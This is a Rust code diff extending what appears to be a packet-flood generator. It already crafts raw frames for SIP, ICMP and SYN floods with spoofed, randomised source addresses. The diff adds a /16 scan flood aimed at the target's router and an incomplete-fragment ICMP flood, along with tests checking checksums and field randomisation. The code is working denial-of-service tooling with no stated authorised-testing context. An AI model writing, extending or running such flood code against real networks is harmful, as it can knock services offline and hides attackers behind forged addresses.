@@ -10,6 +10,9 @@ const UDP: usize = 8;
 const TCP: usize = 20;
 /// Octets behind an ICMP echo's header, as `ping` sends them.
 const ECHO_OCTETS: usize = 56;
+/// Flags of the IPv4 header (RFC 791 §3.1), in its seventh octet.
+const DONT_FRAGMENT: u8 = 0x40;
+const MORE_FRAGMENTS: u8 = 0x20;
 /// Stands where a frame's own number is written, in the template of a SIP message.
 const NUMBER: &[u8] = b"########";
 /// Numbers in one template at most.
@@ -28,6 +31,10 @@ pub enum Kind {
     Icmp,
     /// TCP SYNs.
     Syn,
+    /// UDP datagrams to every address of the target's /16, for its router to look for.
+    Scan,
+    /// First fragments of ICMP echo requests of which the rest never comes.
+    Fragment,
 }
 
 /// Addresses that a flood claims to come from.
@@ -46,6 +53,11 @@ impl Sources {
 
     const fn at(&self, random: u32) -> u32 {
         self.first | (random & self.mask)
+    }
+
+    /// One of them.
+    pub(crate) const fn pick(&self, random: u64) -> Ipv4Addr {
+        Ipv4Addr::from_bits(self.at((random >> 32) as u32))
     }
 }
 
@@ -81,12 +93,13 @@ impl Frame {
         let payload = match attack.kind {
             Kind::Invite => invite(&target.to_string()),
             Kind::Register => register(&target.to_string()),
-            Kind::Icmp => vec![0xa5; ECHO_OCTETS],
+            Kind::Icmp | Kind::Fragment => vec![0xa5; ECHO_OCTETS],
+            Kind::Scan => b"scan".to_vec(),
             Kind::Syn => Vec::new(),
         };
         let (protocol, header) = match attack.kind {
-            Kind::Invite | Kind::Register => (17, UDP),
-            Kind::Icmp => (1, UDP),
+            Kind::Invite | Kind::Register | Kind::Scan => (17, UDP),
+            Kind::Icmp | Kind::Fragment => (1, UDP),
             Kind::Syn => (6, TCP),
         };
         let whole = IPV4 + header + payload.len();
@@ -95,16 +108,17 @@ impl Frame {
         bytes.extend(place.own_mac());
         bytes.extend([0x08, 0x00, 0x45, 0]);
         bytes.extend((whole as u16).to_be_bytes());
-        bytes.extend([0, 0, 0x40, 0, 64, protocol, 0, 0, 0, 0, 0, 0]);
+        let flags = if attack.kind == Kind::Fragment { MORE_FRAGMENTS } else { DONT_FRAGMENT };
+        bytes.extend([0, 0, flags, 0, 64, protocol, 0, 0, 0, 0, 0, 0]);
         bytes.extend(target.ip().octets());
         let mut transport = vec![0; header];
         transport[2..4].copy_from_slice(&target.port().to_be_bytes());
         match attack.kind {
-            Kind::Invite | Kind::Register => {
+            Kind::Invite | Kind::Register | Kind::Scan => {
                 let length = (UDP + payload.len()) as u16;
                 transport[4..6].copy_from_slice(&length.to_be_bytes());
             }
-            Kind::Icmp => transport[..4].copy_from_slice(&[8, 0, 0, 0]),
+            Kind::Icmp | Kind::Fragment => transport[..4].copy_from_slice(&[8, 0, 0, 0]),
             Kind::Syn => transport[12..16].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]),
         }
         bytes.extend(transport);
@@ -126,11 +140,16 @@ impl Frame {
         out.copy_from_slice(&self.bytes);
         let ip = &mut out[ETHERNET..];
         ip[12..16].copy_from_slice(&self.sources.at((random >> 32) as u32).to_be_bytes());
+        match self.kind {
+            Kind::Scan => ip[18..IPV4].copy_from_slice(&(random as u16).to_be_bytes()),
+            Kind::Fragment => ip[4..6].copy_from_slice(&(random as u16).to_be_bytes()),
+            _ => {}
+        }
         let sum = checksum(&ip[..IPV4], 0);
         ip[10..12].copy_from_slice(&sum.to_be_bytes());
         let port = (random as u16).max(PORT_FIRST).to_be_bytes();
         match self.kind {
-            Kind::Invite | Kind::Register => {
+            Kind::Invite | Kind::Register | Kind::Scan => {
                 // A UDP checksum of 0 says that there is none (RFC 768).
                 ip[IPV4..IPV4 + 2].copy_from_slice(&port);
                 let digits = hexadecimal(random as u32 ^ (random >> 32) as u32);
@@ -138,7 +157,7 @@ impl Frame {
                     out[at..at + NUMBER.len()].copy_from_slice(&digits);
                 }
             }
-            Kind::Icmp => {
+            Kind::Icmp | Kind::Fragment => {
                 ip[IPV4 + 4..IPV4 + 8].copy_from_slice(&(random as u32).to_be_bytes());
                 let sum = checksum(&ip[IPV4..], 0);
                 ip[IPV4 + 2..IPV4 + 4].copy_from_slice(&sum.to_be_bytes());
@@ -222,8 +241,11 @@ mod tests {
 
     #[test]
     fn every_frame_has_right_checksums_and_a_source_of_the_range() {
-        for kind in [Kind::Invite, Kind::Register, Kind::Icmp, Kind::Syn] {
+        for kind in
+            [Kind::Invite, Kind::Register, Kind::Icmp, Kind::Syn, Kind::Scan, Kind::Fragment]
+        {
             let mut sources = std::collections::BTreeSet::new();
+            let mut others = std::collections::BTreeSet::new();
             for frame in frames(kind) {
                 let ip = &frame[ETHERNET..];
                 assert_eq!(checksum(&ip[..IPV4], 0), 0);
@@ -232,6 +254,15 @@ mod tests {
                 sources.insert(ip[12..16].to_vec());
                 match kind {
                     Kind::Icmp => assert_eq!(checksum(&ip[IPV4..], 0), 0),
+                    Kind::Fragment => {
+                        assert_eq!(checksum(&ip[IPV4..], 0), 0);
+                        assert_eq!((ip[6], ip[7], (ip.len() - IPV4) % 8), (0x20, 0, 0));
+                        others.insert(ip[4..6].to_vec());
+                    }
+                    Kind::Scan => {
+                        assert_eq!((ip[16], ip[17], ip[6]), (10, 0, 0x40));
+                        others.insert(ip[18..20].to_vec());
+                    }
                     Kind::Syn => {
                         let pseudo = words(&ip[12..IPV4]) + 6 + TCP as u32;
                         assert_eq!(checksum(&ip[IPV4..], pseudo), 0);
@@ -243,6 +274,8 @@ mod tests {
                 }
             }
             assert!(sources.len() > 900, "{kind:?}: {} sources", sources.len());
+            let varies = matches!(kind, Kind::Scan | Kind::Fragment);
+            assert!(!varies || others.len() > 900, "{kind:?}: {} others", others.len());
         }
     }
 
